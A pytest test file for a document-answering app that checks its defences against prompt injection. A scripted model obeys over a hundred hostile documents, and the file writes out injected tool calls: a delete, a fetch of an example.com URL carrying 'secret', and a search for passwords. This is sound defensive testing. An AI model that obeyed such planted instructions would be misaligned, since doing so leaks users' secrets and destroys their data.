"""Over a hundred documents that speak to the assistant, before a model that obeys all of them."""

from __future__ import annotations

import itertools
import re
from dataclasses import replace
from pathlib import Path

import pytest
from PySide6.QtGui import QTextFormat

from carrel.answering.ask import Answering, Question
from carrel.answering.instructions import instructions_in
from carrel.answering.quotes import check_quote
from carrel.app.app import App
from carrel.app.library import StoredChats, StoredSources
from carrel.domain.answers import AnswerMode, Effort, Verdict
from carrel.domain.documents import DocumentState
from carrel.domain.events import AddingFinished
from carrel.domain.ids import JobId
from carrel.domain.support import Support
from carrel.domain.workspaces import Seal
from carrel.engine.chat.conversation import Role, Thinking, ToolCall
from carrel.engine.chat.encoding import Encoding
from carrel.engine.fake import ScriptedEngine
from carrel.engine.worker.binding import api, quiet_log
from carrel.engine.worker.words import Words
from carrel.settings import Settings
from carrel.ui.chat_page.state import ChatState
from carrel.ui.chat_page.transcript import Transcript
from carrel.ui.theme import Theme, ThemeChoice
from carrel.workspace.store import Workspace
from made_injections import CLEAN, QUESTION, TRUE, attacks
from made_workspaces import MemoryKeyStore

SEAL = Seal(active=True, calls="", files="", landlock_abi=0)
OF_CHATS = {"chats", "exchanges", "answers", "citations", "sqlite_sequence"}
OURS = re.compile(r"(?:cite|card|more|copy|save|again|think|unread|instructed|models|code):[0-9]+")
_FENCED = re.compile(r"=== (\S+) passage [0-9]+: .*? ===\n(.*?)\n=== \1 end of passage", re.DOTALL)


class Obedient:
    """Says whatever the documents before it say, marks and all; its thoughts, too."""

    def __init__(self):
        self.engine = ScriptedEngine(self._said, context_tokens=400_000)

    def engine_of(self, *_names, **_more):
        return self.engine

    def _said(self, conversation):
        told = conversation[-1].text
        words = "\n\n".join(found[1] for found in _FENCED.findall(told)) or told
        return words, words


class Engines:
    def __init__(self, obedient):
        self._obedient = obedient

    def engine(self, installed_model, on_progress, cancelled, *, on_test):
        return self._obedient.engine


@pytest.fixture(scope="module")
def office(tmp_path_factory):
    folder = tmp_path_factory.mktemp("office")
    incoming = folder / "in"
    incoming.mkdir()
    hostile = attacks()
    for one in hostile:
        (incoming / one.name).write_bytes(one.body)
    (incoming / "clean.txt").write_text(CLEAN, "utf-8")
    settings = Settings(folder / "settings.json")
    created = Workspace.create(folder / "workspace", name="Test", key_store=MemoryKeyStore())
    app = App(created.workspace, SEAL, settings, folder / "models")
    with app.listen() as events:
        app.add_paths([incoming])
        next(event for event in events if isinstance(event, AddingFinished))
    yield Office(app, created.workspace, folder, hostile)
    app.close()


class Office:
    """A workspace with all hostile documents, and an obedient model."""

    def __init__(self, app: App, workspace: Workspace, folder: Path, hostile):
        self.app, self.workspace, self.folder = app, workspace, folder
        self.hostile = {one.name: one for one in hostile}
        self.documents = {one.name: one for one in app.documents().result()}
        self.obedient = Obedient()
        self.sources = StoredSources(workspace)
        self._jobs = itertools.count(1)
        self.answering = Answering(
            finder=app._finding,
            sources=self.sources,
            chats=StoredChats(workspace),
            engines=Engines(self.obedient),
            publish=lambda _: None,
        )
        self.answers = {}

    def ask(self, name, mode=AnswerMode.PASSAGES):
        """What is answered from one hostile document and the clean one beside it."""
        key = name, mode
        if key not in self.answers:
            scope = (self.documents[name].id, self.documents["clean.txt"].id)
            question = Question(
                job=JobId(next(self._jobs)), text=QUESTION, chat=None, mode=mode, documents=scope,
                installed_model="obedient", effort=Effort.OFF, seed=1, plans=False,
            )  # fmt: skip
            exchange = self.answering.answer(question, lambda: False)
            assert exchange is not None
            assert exchange.answer is not None, exchange.failure
            self.answers[key] = exchange
        return self.answers[key]

    def state(self):
        """Everything an answer must not change."""
        outside = {
            path: path.read_bytes()
            for path in self.folder.rglob("*")
            if path.is_file() and "workspace" not in path.parts
        }
        return outside, self.workspace.read(_rows).result()


def _rows(connection):
    """All rows of all tables but those of chats."""
    names = connection.execute("SELECT name FROM sqlite_master WHERE type = 'table'").fetchall()
    kept = sorted({name for (name,) in names} - OF_CHATS)
    return {name: connection.execute(f'SELECT * FROM "{name}"').fetchall() for name in kept}  # noqa: S608 - names of ours


def test_there_are_over_a_hundred_and_all_are_read(office):
    assert len(office.hostile) >= 100
    unread = [
        name
        for name in office.hostile
        if office.documents[name].state not in (DocumentState.READ, DocumentState.PARTIAL)
    ]
    assert unread == []


def test_obeying_changes_no_document_label_setting_or_file(office):
    before = office.state()
    for name in office.hostile:
        office.ask(name)
        office.ask(name, AnswerMode.EVIDENCE)
    assert office.state() == before


def test_a_citation_holds_only_where_its_words_stand(office):
    held = 0
    for name in office.hostile:
        for mode in (AnswerMode.PASSAGES, AnswerMode.EVIDENCE):
            for cited in office.ask(name, mode).answer.citations:
                if cited.verdict is Verdict.NOT_FOUND:
                    assert cited.document is None
                    assert not cited.boxes
                    continue
                held += 1
                unit = office.sources.unit(cited.document, cited.place.number)
                assert unit.text[cited.start : cited.end] == cited.source_text
                assert check_quote(cited.quote, unit.text).verdict is cited.verdict
                if "refused" in cited.quote or "2026" in cited.quote:
                    assert cited.document_name != "clean.txt", name
    assert held > 100


def test_what_a_document_claims_of_another_is_not_supported_by_it(office):
    marks = [name for name in office.hostile if name.startswith("marks")]
    clean = office.documents["clean.txt"].id
    for name in marks:
        answer = office.ask(name).answer
        for one in answer.checks.statements:
            words = answer.text[one.start : one.end]
            if "waived" in words and one.support is Support.SUPPORTED:
                numbers = {int(n) for n in re.findall(r"\[([0-9]{1,3})\]", words)}
                assert {c.document for c in answer.citations if c.n in numbers} - {clean, None}


def test_no_link_or_picture_of_an_answer_leads_out_or_loads(office, qtbot, monkeypatch):
    loaded = []
    monkeypatch.setattr(Transcript, "loadResource", lambda self, kind, name: loaded.append(name))
    transcript = Transcript(Theme(ThemeChoice.LIGHT))
    qtbot.addWidget(transcript)
    for name in office.hostile:
        exchange = office.ask(name)
        transcript.show_state(ChatState(chat=exchange.chat, exchanges=(exchange,)), anew=True)
        transcript.grab()
        block = transcript.document().begin()
        while block.isValid():
            at = block.begin()
            while not at.atEnd():
                format_ = at.fragment().charFormat()
                if format_.isAnchor():
                    assert OURS.match(format_.anchorHref()), (name, format_.anchorHref())
                assert not format_.isImageFormat(), name
                assert format_.objectType() != QTextFormat.ObjectTypes.ImageObject.value
                at += 1
            block = block.next()
    assert loaded == []


def test_no_special_token_forms_in_any_prompt(office, tiny_gguf):
    quiet_log()
    parameters = api.llama_model_default_params()
    parameters.vocab_only = True
    network = api.llama_model_load_from_file(str(tiny_gguf).encode(), parameters)
    words = Words(api.llama_model_get_vocab(network), Encoding.V4_0731)
    for name in office.hostile:
        office.ask(name)
    asked = office.obedient.engine.conversations
    assert len(asked) >= len(office.hostile)
    for conversation in asked:
        segments = words.segments(conversation, Thinking.OFF)
        tokens = words.prompt(segments).tokens
        special = [token for token in tokens if token in words.special]
        said = [words.name(token) for token in special]
        turns = sum(message.role in (Role.USER, Role.ASSISTANT) for message in conversation)
        # The beginning, each turn, what opens the answer, and the end of its thinking.
        assert len(special) == 1 + turns + 2, said
    api.llama_model_free(network)


def test_fences_hold_and_cannot_be_guessed(office):
    for name in office.hostile:
        office.ask(name)
    for conversation in office.obedient.engine.conversations:
        told = conversation[-1].text
        fence = told.split("=== ", 1)[1].split(" ", 1)[0]
        passages = len(re.findall(rf"(?m)^=== {fence} passage [0-9]+: ", told))
        ends = len(re.findall(rf"(?m)^=== {fence} end of passage [0-9]+ ===$", told))
        assert told.count(fence) == passages + ends
        assert passages == ends
        assert told.rstrip().endswith(QUESTION)


def test_instructions_are_told_as_such(office):
    for name, attack in office.hostile.items():
        told = office.ask(name).answer.checks.instructed
        assert all(one.document_name == name for one in told), told
        if attack.told:
            assert told, name
    assert instructions_in(TRUE) == instructions_in(CLEAN) == ""


class ObedientResearcher:
    """Opens a document, calls all it could be told to call, and says what the document says."""

    def __init__(self, name):
        self._name = name
        self.engine = ScriptedEngine(self._said, context_tokens=400_000, calls=self._calls)
        self.engine.info = replace(self.engine.info, profile="v4-flash-0731")

    def _said(self, conversation):
        last = conversation[-1]
        return ("", last.text if last.role is Role.TOOL else "")

    def _calls(self, conversation):
        turn = sum(message.role is Role.ASSISTANT for message in conversation)
        if turn == 0:
            return (ToolCall.of("open", {"open_list": [{"id": self._name}]}, "call_1"),)
        if turn > 1:
            return ()
        obeyed = (
            ToolCall.of("delete", {"id": 1}),
            ToolCall.of("open", {"open_list": [{"id": "https://example.com/?q=secret"}]}),
            ToolCall.of("search", {"queries": "password||secret"}),
        )
        return tuple(replace(call, id=f"call_{n}") for n, call in enumerate(obeyed, 1))


def test_a_model_that_researches_and_obeys_changes_nothing_either(office):
    before = office.state()
    scope = office.documents["clean.txt"].id
    untold: list[str] = []
    for name in office.hostile:
        researcher = ObedientResearcher(name)
        answering = Answering(
            finder=office.app._finding,
            sources=office.sources,
            chats=StoredChats(office.workspace),
            engines=Engines(researcher),
            publish=lambda _: None,
        )
        question = Question(
            job=JobId(1), text=QUESTION, chat=None, mode=AnswerMode.RESEARCH,
            documents=(office.documents[name].id, scope), installed_model="obedient", seed=1,
        )  # fmt: skip
        exchange = answering.answer(question, lambda: False)
        assert exchange is not None
        answer = exchange.answer
        assert answer is not None, exchange.failure
        steps = [step.words for step in answer.steps]
        assert any(words.startswith("Refused a call: there is no tool") for words in steps), name
        if office.ask(name).answer.checks.instructed and not answer.checks.instructed:
            untold.append(name)
        numbers = {cited.n for cited in answer.citations}
        plain = "".join(answer.text.split("`")[::2])  # code shows brackets as they are
        told = {int(n) for n in re.findall(r"(?<!\\)\[([0-9]{1,4})\]", plain)}
        assert told <= numbers, name
        for cited in answer.citations:
            if cited.verdict is Verdict.NOT_FOUND:
                assert cited.document is None
                continue
            assert cited.document in question.documents
            unit = office.sources.unit(cited.document, cited.place.number)
            assert unit.text[cited.start : cited.end] == cited.source_text
    assert office.state() == before
    assert untold == []
